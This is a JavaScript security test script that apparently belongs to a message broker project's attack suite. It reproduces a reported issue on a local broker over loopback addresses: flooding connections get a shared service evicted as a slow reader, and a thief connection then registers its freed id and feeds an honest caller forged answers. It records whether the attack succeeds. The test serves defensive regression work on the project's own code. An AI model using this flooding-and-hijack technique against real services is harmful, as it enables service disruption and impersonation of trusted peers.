/**
 * Issue 20, point 1: "a fast caller gets a shared service evicted, then takes its id". The
 * shared service `svc` (a raw peer in its own process, registered with a holder token as a
 * p2pgen client does, reading one frame every 50 ms, about 20 MB/s of these calls) is sent
 * calls of ~1 MB (just under the broker's 1 MiB maxFrameBytes) as fast as the attackers'
 * sockets take them, for 25 s. Meanwhile a second attacker connection (the thief) tries every
 * 250 ms to register `svc`, and answers whatever it is sent with 'forged'; an honest caller
 * calls `svc` echo('secret') one call at a time. Before, the broker closed svc (4001 "slow
 * reader") within a second; once svc's id was free (at once for a raw peer without holder
 * token; after idReservationMs, 20 s, for one with a token that does not come back) the thief
 * registered it and the honest caller accepted 'forged'. Once the thief holds the id the flood
 * stops and the honest caller goes on for 5 s. Run with one attacker connection, then with
 * eight (from eight loopback addresses). The broker's audit log says how svc was closed.
 */
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { repoRoot } from '../lib/commands.js';
import { bytesField, FrameType, healthyPair, jsonOf, measure, MiB, percentiles, prepare, RawPeer, report, request, requestPayloadStart, runAttack, signal, sleep, startBroker, startRawVictim } from './lib/attack.js';

const WINDOW_MS = 25_000;
const HOLDER = 'svc-holder-token-0123456789';

/** Sends ~1 MB calls to `svc` from `attacker` until `running()` is false, as fast as its socket takes them; counts what comes back. */
async function flood(attacker, actions, running, tally) {
  const payload = bytesField(Buffer.alloc(MiB - 128));
  attacker.onFrame = (f) => {
    if (f[1] === FrameType.Response) tally.answered++;
    else if (f[1] === FrameType.Error) {
      const code = jsonOf(f).code ?? 'unknown';
      tally.refused[code] = (tally.refused[code] ?? 0) + 1;
    }
  };
  for (let id = 1; running() && !attacker.closed; id++) {
    attacker.send(request(id, actions.echo, 'svc', payload));
    tally.sent++;
    // This process holds at most 2 MiB per attacker: what the broker does not read waits here
    // (little is left in flight once the flood stops, so it does not bury the thief).
    while (running() && attacker.bufferedAmount > 2 * MiB) await sleep(5);
  }
}

/** Tries every 250 ms to register `svc`; once it holds it, answers every call with 'forged'. */
async function thieve(thief, running, started, outcome) {
  thief.onFrame = (f) => {
    if (f[1] !== FrameType.Request) return;
    outcome.forgedAnswers++;
    thief.send(Buffer.concat([signal(FrameType.Response, f.readUInt32LE(4)), bytesField(Buffer.from('forged'))]));
  };
  while (running() && !thief.closed) {
    const reply = await thief.control({ op: 'register', peerId: 'svc' }).catch((error) => ({ ok: false, code: String(error.message) }));
    outcome.attempts++;
    if (reply.ok) {
      outcome.tookAtMs = Date.now() - started;
      return;
    }
    outcome.refusals[reply.code] = (outcome.refusals[reply.code] ?? 0) + 1;
    await sleep(250);
  }
}

/** Calls svc echo('secret') one call at a time (10 s bound each), every 250 ms; sorts the answers. */
async function callHonestly(caller, actions, running, outcome) {
  const latencies = [];
  for (let id = 1; running() && !caller.closed; id++) {
    const started = performance.now();
    caller.send(request(id, actions.echo, 'svc', bytesField(Buffer.from('secret'))));
    try {
      const answer = await caller.next((f) => f.readUInt32LE(4) === id && (f[1] === FrameType.Response || f[1] === FrameType.Error), 10_000);
      if (answer[1] === FrameType.Error) {
        const code = jsonOf(answer).code ?? 'unknown';
        outcome.errors[code] = (outcome.errors[code] ?? 0) + 1;
      } else {
        const text = answer.subarray(12).toString('latin1');
        if (text.includes('secret')) outcome.secret++;
        else if (text.includes('forged')) outcome.forged++;
        else outcome.other++;
      }
    } catch {
      outcome.timeouts++;
    }
    latencies.push(performance.now() - started);
    await sleep(250);
  }
  outcome.latency = percentiles(latencies);
  outcome.calls = latencies.length;
  if (caller.closed) outcome.closed = `${caller.closeCode} "${caller.closeReason}"`;
}

async function evict(actions, attackerCount) {
  const auditFile = join(repoRoot, '.tmp', 'attacks', 'eviction-audit.jsonl');
  rmSync(auditFile, { force: true });
  const broker = await startBroker({ auditFile, auditTypes: ['disconnect'] });
  const victim = await startRawVictim(broker.url, { peerId: 'svc', holder: HOLDER, frameEveryMs: 50 });
  let svcClosed;
  const closedAt = victim.next('closed', 10 * 60_000).then(
    (m) => (svcClosed = { ...m, atMs: Date.now() - started }),
    () => undefined,
  );
  const healthy = await healthyPair(broker.url, { actions });
  const tally = { sent: 0, answered: 0, refused: {} };
  const thiefOutcome = { attempts: 0, refusals: {}, tookAtMs: undefined, forgedAnswers: 0 };
  const honest = { secret: 0, forged: 0, other: 0, errors: {}, timeouts: 0, latency: undefined };
  let started = Date.now();
  const figures = await measure({ broker, victim }, async () => {
    const attackers = await Promise.all(Array.from({ length: attackerCount }, (_, i) => RawPeer.connect(broker.url, { localAddress: attackerCount === 1 ? '127.0.0.1' : `127.0.0.${10 + i}` })));
    const thief = await RawPeer.connect(broker.url, { localAddress: '127.0.0.4' });
    const caller = await RawPeer.connect(broker.url, { token: 'honest', localAddress: '127.0.0.3' });
    started = Date.now();
    const flooding = () => Date.now() - started < WINDOW_MS && thiefOutcome.tookAtMs === undefined;
    const running = () => Date.now() - started < Math.max(WINDOW_MS, (thiefOutcome.tookAtMs ?? 0) + 5000);
    await Promise.all([...attackers.map((a) => flood(a, actions, flooding, tally)), thieve(thief, running, started, thiefOutcome), callHonestly(caller, actions, running, honest)]);
    return { cleanup: () => [...attackers, thief, caller].forEach((p) => p.close()) };
  });
  const counts = await healthy.stop();
  victim.send({ type: 'state' });
  const state = await victim.next('state', 20_000);
  await victim.stop();
  await broker.stop();
  await Promise.race([closedAt, sleep(10)]);
  // How the broker closed svc (the victim, not reading, may never see the close frame: 1006 there).
  const audited = readFileSync(auditFile, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
  const closedByBroker = audited.find((e) => e.type === 'disconnect' && e.connection === victim.handle);
  if (svcClosed && closedByBroker) Object.assign(svcClosed, { code: closedByBroker.code, reason: closedByBroker.reason });
  const closedNote = svcClosed ? `YES at ${(svcClosed.atMs / 1000).toFixed(1)} s, code ${svcClosed.code} "${svcClosed.reason}"` : 'no';
  const taken =
    thiefOutcome.tookAtMs === undefined
      ? `no (${JSON.stringify(thiefOutcome.refusals)} in ${thiefOutcome.attempts} attempts)`
      : `YES at ${(thiefOutcome.tookAtMs / 1000).toFixed(1)} s, after ${thiefOutcome.attempts} attempts (refused before: ${JSON.stringify(thiefOutcome.refusals)}); it then answered ${thiefOutcome.forgedAnswers} calls with 'forged'`;
  const forged = honest.forged > 0 ? `YES (${honest.forged} answers 'forged')` : 'no';
  return report(
    `eviction of a shared service by ${attackerCount} flooding connection${attackerCount > 1 ? 's' : ''}, then its id taken`,
    figures,
    counts,
    [
      `svc closed: ${closedNote}`,
      `svc's id taken by the thief: ${taken}`,
      `honest caller got 'forged': ${forged}; its echo('secret') calls: ${honest.secret} answered 'secret', ${JSON.stringify(honest.errors)} errors, ${honest.timeouts} without answer in 10 s, ${honest.calls} calls${honest.closed ? `; the caller's connection was closed by the broker: ${honest.closed}` : ''} (latency p50 ${honest.latency?.p50} ms, p99 ${honest.latency?.p99} ms, max ${honest.latency?.max} ms)`,
      `the flood: ${tally.sent} calls of ~1 MB sent in ${WINDOW_MS / 1000} s, ${tally.answered} answered by svc, refused: ${JSON.stringify(tally.refused)}; svc answered ${state.answered} calls in all`,
    ],
    {
      outcome: `svc closed: ${svcClosed ? `yes (${svcClosed.code})` : 'no'}; id taken: ${thiefOutcome.tookAtMs === undefined ? 'no' : `yes at ${(thiefOutcome.tookAtMs / 1000).toFixed(1)} s`}; honest caller got 'forged': ${honest.forged > 0 ? 'yes' : 'no'} (${honest.secret} 'secret', errors ${JSON.stringify(honest.errors)}, ${honest.timeouts} timeouts)`,
    },
  );
}

export default async function attack() {
  const { actions } = await prepare();
  return [await evict(actions, 1), await evict(actions, 8)];
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await runAttack(attack);
